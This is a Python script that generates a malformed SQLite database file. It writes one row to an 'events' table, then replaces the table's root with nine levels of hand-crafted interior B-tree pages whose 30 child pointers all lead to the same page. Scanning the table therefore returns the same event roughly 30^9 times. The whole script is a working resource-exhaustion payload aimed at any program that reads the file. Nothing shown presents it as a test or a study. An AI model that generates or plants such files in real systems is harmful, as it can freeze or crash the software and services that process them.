"""circle.py FILE: a registry of a few pages whose interior pages all lead to one leaf: about 30^9 times the same event."""
import sqlite3
import sys

PAGE, CHILDREN, DEPTH = 512, 30, 9


def interior(child):
    page = bytearray(PAGE)
    page[0] = 5
    page[3:5] = CHILDREN.to_bytes(2, "big")
    page[8:12] = child.to_bytes(4, "big")
    cell = child.to_bytes(4, "big") + b"\x01"
    at = PAGE
    for i in range(CHILDREN):
        at -= len(cell)
        page[at:at + len(cell)] = cell
        page[12 + 2 * i:14 + 2 * i] = at.to_bytes(2, "big")
    page[5:7] = at.to_bytes(2, "big")
    return bytes(page)


path = sys.argv[1]
connection = sqlite3.connect(path)
connection.executescript(f"""PRAGMA page_size = {PAGE};
    CREATE TABLE events (id INTEGER PRIMARY KEY AUTOINCREMENT, token_id TEXT, kind TEXT, timestamp INTEGER);
    INSERT INTO events VALUES (1, 't', 'dns', 5)""")
root = connection.execute("SELECT rootpage FROM sqlite_schema WHERE name = 'events'").fetchone()[0]
connection.close()
pages = bytearray(open(path, "rb").read())
place = slice((root - 1) * PAGE, root * PAGE)
leaf, first = bytes(pages[place]), len(pages) // PAGE + 1
pages[place] = interior(first)
for depth in range(1, DEPTH):
    pages += interior(first + depth)
pages += leaf
pages[28:32] = (len(pages) // PAGE).to_bytes(4, "big")
open(path, "wb").write(pages)
